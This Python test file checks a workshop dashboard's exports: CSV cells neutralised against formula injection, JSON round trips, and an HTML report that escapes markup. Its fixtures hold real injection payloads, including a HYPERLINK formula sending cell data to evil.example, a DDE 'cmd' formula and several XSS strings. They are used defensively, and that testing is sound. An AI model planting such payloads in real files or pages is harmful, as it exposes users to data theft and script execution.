"""Exports: CSV safe against formula injection, JSON round trips, an escaped self-contained report."""

from __future__ import annotations

import csv
import html
import io
import json
import re
from datetime import UTC, datetime
from html.parser import HTMLParser

import numpy as np
import pandas as pd
import pytest
import textstat
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from csc_dash import exports
from csc_dash import feedback as fb

pytest_plugins = ["tests.pg"]  # fixtures: engine, store_url

DANGEROUS_STARTS = set("=+-@\t\r\n\uff1d\uff0b\uff0d\uff20")

FORMULAS = [
    '=HYPERLINK("http://evil.example/?d="&A1,"Click")',
    "+1",
    "-2",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "  =cmd|' /C calc'!A0",
    "\uff1d1+1",
]
XSS = [
    "<script>alert(1)</script>",
    '"><img src=x onerror=alert(1)>',
    "</textarea><svg onload=alert(1)>",
    "javascript:alert(1)",
    "&lt;already&gt; & 'quotes'",
]


def dangerous(cell: str) -> bool:
    return cell[:1] in DANGEROUS_STARTS or cell.lstrip()[:1] in DANGEROUS_STARTS


# --------------------------------------------------------------------------- safe_cell


@pytest.mark.parametrize(
    ("value", "cell"),
    [
        (None, ""),
        ("", ""),
        ("hello", "hello"),
        ("=1+1", "'=1+1"),
        ("+1", "'+1"),
        ("-2", "'-2"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("\nx", "'\nx"),
        (" =1", "' =1"),
        ("\uff1d1", "'\uff1d1"),
        ("a=1", "a=1"),
        ("'=1", "'=1"),
        (3, "3"),
        (-2, "-2"),
        (-0.5, "-0.5"),
        (np.int64(-7), "-7"),
        (np.float64(0.25), "0.25"),
        (float("nan"), ""),
        (True, "true"),
        (False, "false"),
        ({"reaction": "=x"}, '{"reaction":"=x"}'),
        (["-1", 2], '["-1",2]'),
        (datetime(2026, 1, 2, 3, 4, tzinfo=UTC), "2026-01-02T03:04:00+00:00"),
    ],
)
def test_safe_cell(value, cell):
    assert exports.safe_cell(value) == cell


@given(st.text())
def test_safe_cell_neutralises_any_text(text):
    cell = exports.safe_cell(text)
    assert cell in (text, "'" + text)
    assert not dangerous(cell)
    if not dangerous(text):
        assert cell == text


@given(st.one_of(st.integers(), st.floats(allow_nan=False)))
def test_safe_cell_writes_numbers_as_numbers(number):
    # Whole numbers are written exactly (a float would round above 2**53).
    parse = int if isinstance(number, int) else float
    assert parse(exports.safe_cell(number)) == number


# --------------------------------------------------------------------------- CSV


@pytest.fixture
def hostile(engine):
    """A workshop whose participants typed formulas and markup everywhere they could."""
    workshop = fb.create_workshop(engine, title="<b>Title</b> =1+1", created_by="ann")
    people = []
    for i, payload in enumerate(FORMULAS + XSS):
        person = fb.join_workshop(
            engine,
            code=workshop.code,
            pseudonym=f"{payload[:30]}{i}" if payload.strip() else f"p{i}",
            role_tag=fb.ROLE_TAGS[i % len(fb.ROLE_TAGS)],
            client_token=fb.new_client_token(),
        )
        people.append(person)
        for question_id, value in (
            ("reaction", {"reaction": "unsure", "reason": payload}),
            ("should_reasons", payload),
            ("should_use", 1 + i % 5),
            ("accepted_threshold", None if i % 3 == 0 else round(0.05 * (i % 20), 2)),
        ):
            fb.save_response(
                engine,
                participant_id=person.id,
                page="tradeoffs" if question_id == "reaction" else "your_views",
                question_id=question_id,
                value=value,
                screen_state={"note": payload, "threshold": 0.3},
                client_token=fb.new_client_token(),
            )
    proposed = fb.add_statement(
        engine,
        workshop_id=workshop.id,
        text=XSS[0] + " " + FORMULAS[0],
        source="participant",
        proposed_by=people[0].id,
        approved=True,
    )
    for person in people:
        fb.vote(
            engine,
            participant_id=person.id,
            statement_id=proposed.id,
            choice="agree" if person.id % 2 else "disagree",
            client_token=fb.new_client_token(),
        )
    return workshop, people


def parse_csv(data: bytes) -> list[list[str]]:
    assert data.startswith(b"\xef\xbb\xbf")
    return list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")))


def test_responses_csv_neutralises_every_formula(engine, hostile):
    workshop, people = hostile
    frame = fb.responses(engine, workshop.id)
    rows = parse_csv(exports.responses_csv(frame))
    header, body = rows[0], rows[1:]
    assert header == list(frame.columns)
    assert len(body) == len(frame) == 4 * len(people)
    for row in body:
        assert len(row) == len(header)
        for cell in row:
            assert not dangerous(cell), cell
    by_column = {name: [row[i] for row in body] for i, name in enumerate(header)}
    texts = [
        row[header.index("value")]
        for row in body
        if row[header.index("question_id")] == "should_reasons"
    ]
    for payload in FORMULAS:
        assert "'" + payload in texts
    for payload in XSS:
        assert payload in texts  # markup is harmless in a spreadsheet and kept as typed
    reasons = [
        json.loads(v)
        for v, q in zip(by_column["value"], by_column["question_id"], strict=True)
        if q == "reaction"
    ]
    assert {r["reason"] for r in reasons} == set(FORMULAS + XSS)
    assert all(json.loads(s)["threshold"] == 0.3 for s in by_column["screen_state"])
    assert all(datetime.fromisoformat(t).tzinfo is not None for t in by_column["created_at"])


def test_responses_csv_of_an_empty_frame_has_the_header():
    frame = pd.DataFrame(columns=fb.RESPONSE_COLUMNS)
    assert parse_csv(exports.responses_csv(frame)) == [fb.RESPONSE_COLUMNS]


def test_responses_csv_keeps_accents_and_newlines():
    frame = pd.DataFrame({"text": ["Zoë said:\n“no”", "-"], "n": [1, -1]})
    assert parse_csv(exports.responses_csv(frame)) == [
        ["text", "n"],
        ["Zoë said:\n“no”", "1"],
        ["'-", "-1"],
    ]


# --------------------------------------------------------------------------- JSON


def test_workshop_json_holds_everything(engine, hostile):
    workshop, people = hostile
    data = json.loads(exports.workshop_json(engine, workshop.id))
    assert data["workshop"]["code"] == workshop.code
    assert data["workshop"]["title"] == workshop.title
    assert [p["pseudonym"] for p in data["participants"]] == [p.pseudonym for p in people]
    assert set(data["participants"][0]) == {"id", "pseudonym", "role_tag", "consented_at"}
    frame = fb.responses(engine, workshop.id)
    assert [r["value"] for r in data["responses"]] == frame["value"].tolist()
    assert [r["screen_state"] for r in data["responses"]] == frame["screen_state"].tolist()
    assert len(data["statements"]) == len(fb.list_statements(engine, workshop.id))
    assert len(data["votes"]) == len(people)
    assert "client_token" not in json.dumps(data)


def test_exports_of_an_unknown_workshop(engine):
    for export in (exports.workshop_json, exports.workshop_report_html):
        with pytest.raises(fb.FeedbackError) as raised:
            export(engine, 10**6)
        assert str(raised.value) == fb.UNKNOWN_WORKSHOP


json_values = st.recursive(
    st.none()
    | st.booleans()
    | st.integers()
    | st.floats(allow_nan=False, allow_infinity=False)
    | st.text(max_size=20),
    lambda children: (
        st.lists(children, max_size=3) | st.dictionaries(st.text(max_size=6), children, max_size=3)
    ),
    max_leaves=10,
)


@settings(
    max_examples=25, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture]
)
@given(value=json_values)
def test_any_value_round_trips_through_the_json_export(engine, value):
    workshop = fb.ensure_demo_workshop(engine)
    person = fb.join_workshop(
        engine, code=fb.DEMO_CODE, pseudonym="Sam", role_tag="Other", client_token="hypothesis"
    )
    token = fb.new_client_token()
    fb.save_response(
        engine,
        participant_id=person.id,
        page="p",
        question_id=token,
        value=value,
        screen_state={"v": value},
        client_token=token,
    )
    data = json.loads(exports.workshop_json(engine, workshop.id))
    stored = next(r for r in data["responses"] if r["question_id"] == token)
    assert stored["value"] == value
    assert stored["screen_state"] == {"v": value}


# --------------------------------------------------------------------------- HTML report


class Collector(HTMLParser):
    def __init__(self):
        super().__init__()
        self.tags: list[str] = []
        self.attrs: list[tuple[str, str | None]] = []
        self.text: list[str] = []

    def handle_starttag(self, tag, attrs):
        self.tags.append(tag)
        self.attrs.extend(attrs)

    def handle_data(self, data):
        self.text.append(data)


def parse_html(page: str) -> Collector:
    parser = Collector()
    parser.feed(page)
    parser.close()
    return parser


def test_report_escapes_everything_and_needs_no_network(engine, hostile):
    workshop, _ = hostile
    page = exports.workshop_report_html(engine, workshop.id)
    parsed = parse_html(page)
    assert "script" not in parsed.tags
    assert {"img", "iframe", "object", "embed", "link", "a"}.isdisjoint(parsed.tags)
    names = {name for name, _ in parsed.attrs}
    assert not any(name.startswith("on") for name in names)
    assert {"src", "href"}.isdisjoint(names)
    assert "<script" not in page.lower()
    for payload in XSS:
        assert payload not in page or payload == "javascript:alert(1)"
    text = "".join(parsed.text)
    for payload in XSS + [p for p in FORMULAS if p.strip()]:
        assert payload.strip() in text  # shown as text, exactly as typed
    assert "<b>Title</b> =1+1" in text
    fetchable = [v for name, v in parsed.attrs if v and "http" in v and name != "xmlns"]
    assert fetchable == []  # typed links appear only as text
    assert "Content-Security-Policy" in page and "default-src 'none'" in page


def test_report_content(engine):
    workshop = fb.create_workshop(engine, title="Spring", created_by="ann")

    def person(name, role):
        return fb.join_workshop(
            engine,
            code=workshop.code,
            pseudonym=name,
            role_tag=role,
            client_token=fb.new_client_token(),
        )

    def say(who, page, question_id, value):
        fb.save_response(
            engine,
            participant_id=who.id,
            page=page,
            question_id=question_id,
            value=value,
            screen_state={},
            client_token=fb.new_client_token(),
        )

    sam, kim, lee = (
        person("Sam", "Family member"),
        person("Kim", "Social worker"),
        person("Lee", "Social worker"),
    )
    say(
        sam,
        "tradeoffs",
        "reaction",
        {"reaction": "not_acceptable", "reason": "Too many false alarms"},
    )
    say(kim, "tradeoffs", "reaction", {"reaction": "not_acceptable", "reason": ""})
    say(lee, "tradeoffs", "reaction", {"reaction": "acceptable", "reason": ""})
    say(sam, "your_views", "accepted_threshold", None)
    say(kim, "your_views", "accepted_threshold", 0.4)
    say(lee, "your_views", "accepted_threshold", 0.2)
    say(sam, "your_views", "should_use", 1)
    say(kim, "your_views", "should_use", 4)
    statement = fb.list_statements(engine, workshop.id)[0]
    for who in (sam, kim, lee):
        fb.vote(
            engine,
            participant_id=who.id,
            statement_id=statement.id,
            choice="agree",
            client_token=fb.new_client_token(),
        )

    page = exports.workshop_report_html(
        engine, workshop.id, page_titles={"tradeoffs": "Trade-offs"}
    )
    text = " ".join("".join(parse_html(page).text).split())
    assert "Workshop report: Spring" in text
    assert "3 people took part; the largest group was social worker (2 people)." in text
    assert "People saved 3 views of screens" in text
    reactions_chart = re.search(
        r"<svg.*?</svg>", page.split("Reactions to each screen", 1)[1]
    ).group(0)
    assert parse_html(reactions_chart).text == [
        "Reactions to each screen",  # the chart's title
        "Trade-offs",
        "I could accept this",
        "1",
        "I am not sure",
        "0",
        "I could not accept this",
        "2",
    ]
    assert "the most common answer was “I could not accept this”" in text
    assert (
        "2 people named a line they could accept; the middle answer was 0.30. 1 person would not accept any line."
        in text
    )
    assert "Councils should use tools like this" in text
    assert "Strongly disagree" in text and "Agree" in text
    assert statement.text in text and "Too few votes to tell" in text
    assert "Too many false alarms" in text and "Sam (Family member)" in text
    assert "Family member: too few to tell (1 vote); Social worker: 100% of 2" in text
    assert "3 written answers" not in text and "1 written answer from 1 person." in text
    summaries = re.findall(r'<p class="(?:summary|note)">(.*?)</p>', page)
    assert len(summaries) >= 6
    plain = " ".join(html.unescape(re.sub(r"\d[\d.,]*", "some", s)) for s in summaries)
    assert textstat.flesch_kincaid_grade(plain) <= 8, plain
    assert page.count("<svg") == 4  # people, reactions, lines, one scale question
    assert page.count("<title>") == 1 + 4  # the page and every chart have a title


def test_report_of_an_empty_workshop(engine):
    workshop = fb.create_workshop(engine, title="Empty", created_by="ann")
    page = exports.workshop_report_html(engine, workshop.id)
    text = "".join(parse_html(page).text)
    for sentence in (
        "No one has joined this workshop yet.",
        "No one has saved a view of a screen yet.",
        "No one has answered this question yet.",
        "No one has voted on a statement yet.",
        "No one has written anything yet.",
    ):
        assert sentence in text
    assert "<svg" not in page


def test_a_withdrawn_proposers_statement_and_others_votes_stay_in_every_export(engine):
    """Issue 12.1: withdrawing deleted other people's votes from the exports."""
    room = fb.create_workshop(engine, title="Room", created_by="ann")
    people = [
        fb.join_workshop(engine, code=room.code, pseudonym=name, role_tag="Other",
                         client_token=fb.new_client_token())
        for name in ("Proposer", "Ann", "Bo")
    ]
    idea = fb.add_statement(engine, workshop_id=room.id, text="Tell families first.",
                            source="participant", proposed_by=people[0].id)
    fb.approve_statement(engine, idea.id)
    for person in people:
        fb.vote(engine, participant_id=person.id, statement_id=idea.id, choice="agree",
                client_token=fb.new_client_token())
    fb.withdraw(engine, people[0].id)

    data = json.loads(exports.workshop_json(engine, room.id))
    (kept,) = [s for s in data["statements"] if s["id"] == idea.id]
    assert (kept["text"], kept["proposed_by"], kept["author"]) == (
        "Tell families first.", None, fb.AUTHOR_LEFT)
    assert sorted(v["participant_id"] for v in data["votes"] if v["statement_id"] == idea.id) == [
        people[1].id, people[2].id]
    assert "Proposer" not in json.dumps(data)
    page = exports.workshop_report_html(engine, room.id)
    assert "Tell families first." in page and fb.AUTHOR_LEFT in page
    assert "Proposer" not in page


def test_the_report_says_lines_per_1000_first(engine):
    room = fb.create_workshop(engine, title="Room", created_by="ann")
    sam = fb.join_workshop(engine, code=room.code, pseudonym="Sam", role_tag="Other",
                           client_token=fb.new_client_token())
    fb.save_response(engine, participant_id=sam.id, page="your_views", question_id=fb.LINE_QUESTION,
                     value=95, screen_state={fb.ANSWER_LINE: 0.1764}, client_token=fb.new_client_token())
    page = exports.workshop_report_html(engine, room.id)
    assert "95 in every 1,000 (score 0.176)" in page
